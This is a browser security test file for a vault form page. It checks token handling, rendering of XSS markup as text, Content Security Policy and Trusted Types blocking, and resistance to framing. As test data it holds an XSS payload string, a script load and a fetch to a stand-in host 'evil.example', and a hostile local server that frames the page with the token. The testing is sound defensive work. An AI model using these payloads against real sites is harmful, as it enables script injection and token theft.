import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test } from "vitest";
import { heading, openFormPage, sharedFormPages } from "../../support/form/form-page.js";
import { field, token } from "../../support/form/scripted-forms.js";

const { bed, browser, open } = sharedFormPages();

test("the token leaves the address at once, and is neither in a URL, a Referer, the history nor a store", async () => {
  const form = await open();
  const { page, asked } = form;
  await heading(form, "Example shop");
  expect(page.url()).toBe(`${bed().url}/`);
  expect(JSON.stringify(asked)).not.toContain(token);
  expect(asked.map(({ referer }) => referer).filter(Boolean)).toEqual([]);
  expect(asked.every(({ what }) => what.includes(bed().url))).toBe(true);
  const kept = await page.evaluate(
    "JSON.stringify([history.state, { ...localStorage }, { ...sessionStorage }, document.cookie])",
  );
  expect(kept).toBe('[null,{},{},""]');
  expect(await page.context().cookies()).toEqual([]);
  await page.goBack();
  await page.goForward();
  await heading(form, "This link does not work");
});

const markup = `<img src=x onerror="document.title='xss'"><script>document.title='xss'</script>"'>&lt;\u202Eevil`;

test("a heading, a name or a label is a text, whatever stands in it", async () => {
  Object.assign(bed().forms, {
    title: markup,
    vaultName: markup,
    fields: [
      field({ name: "a", label: markup, value: markup, hasValue: true }),
      field({ name: "b", required: false }),
    ],
  });
  const form = await open();
  const { page, troubles } = form;
  await page.locator("#form").waitFor();
  expect(await page.locator("#title").textContent()).toBe(markup);
  expect(await page.locator("#vault").textContent()).toBe(markup);
  expect(await page.locator("#fields label").first().textContent()).toBe(markup);
  expect(await page.locator("input").first().inputValue()).toBe(markup);
  expect(await page.locator("main img, main script").count()).toBe(0);
  expect(await page.title()).toBe("Enter details · Remuda vault");
  expect(await page.locator(".product").innerText()).toBe("Remuda vault");
  expect(troubles).toEqual([]);
});

test("the policy stops what would write markup, load or call from elsewhere, or send a form", async () => {
  const form = await open();
  const { page, troubles } = form;
  const { url } = bed();
  await heading(form, "Example shop");
  const attempts = await page.evaluate(`(async () => {
    const refused = (attempt) => {
      try {
        attempt();
        return "done";
      } catch (error) {
        return error.name;
      }
    };
    const script = document.createElement("script");
    const style = document.createElement("style");
    style.textContent = "body { display: none }";
    document.head.append(style);
    return [
      refused(() => (document.body.innerHTML = "<b>x</b>")),
      await new Promise((resolve) => {
        addEventListener("securitypolicyviolation", ({ blockedURI }) => resolve(blockedURI), { once: true });
        const inline = document.createElement("div");
        inline.setAttribute("style", "color: red");
        document.body.append(inline);
      }),
      refused(() => (script.src = "https://evil.example/x.js")),
      getComputedStyle(document.body).display,
      await fetch("https://evil.example/").then(() => "sent", String),
      await fetch("${url}/").then(() => "sent", String),
    ];
  })()`);
  expect(attempts).toEqual([
    "TypeError",
    "inline",
    "TypeError",
    "block",
    "TypeError: Failed to fetch",
    "sent",
  ]);
  expect(troubles.join()).toMatch(/Trusted|TrustedHTML/);
});

test("no page of others shows it in a frame, or keeps a hold on it", async () => {
  const evil = createServer((request, response) => {
    response.setHeader("content-type", "text/html");
    response.end(
      request.url === "/frame"
        ? `<iframe src="${bed().url}/#token=${token}"></iframe>`
        : `<a href="${bed().url}/#token=${token}" target="_blank" rel="opener">open</a>`,
    );
  });
  await new Promise<void>((resolve) => evil.listen(0, "127.0.0.1", resolve));
  // Another origin by its name as well.
  const at = `http://localhost:${(evil.address() as AddressInfo).port}`;
  const { page } = await openFormPage(browser());
  await page.goto(`${at}/frame`);
  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);
  expect(bed().forms.opened).toEqual([]);
  await page.goto(at);
  const [popup] = await Promise.all([page.waitForEvent("popup"), page.getByText("open").click()]);
  await popup.getByRole("heading", { name: "Example shop" }).waitFor();
  expect(await popup.evaluate("opener")).toBeNull();
  await page.close();
  evil.closeAllConnections();
  evil.close();
});
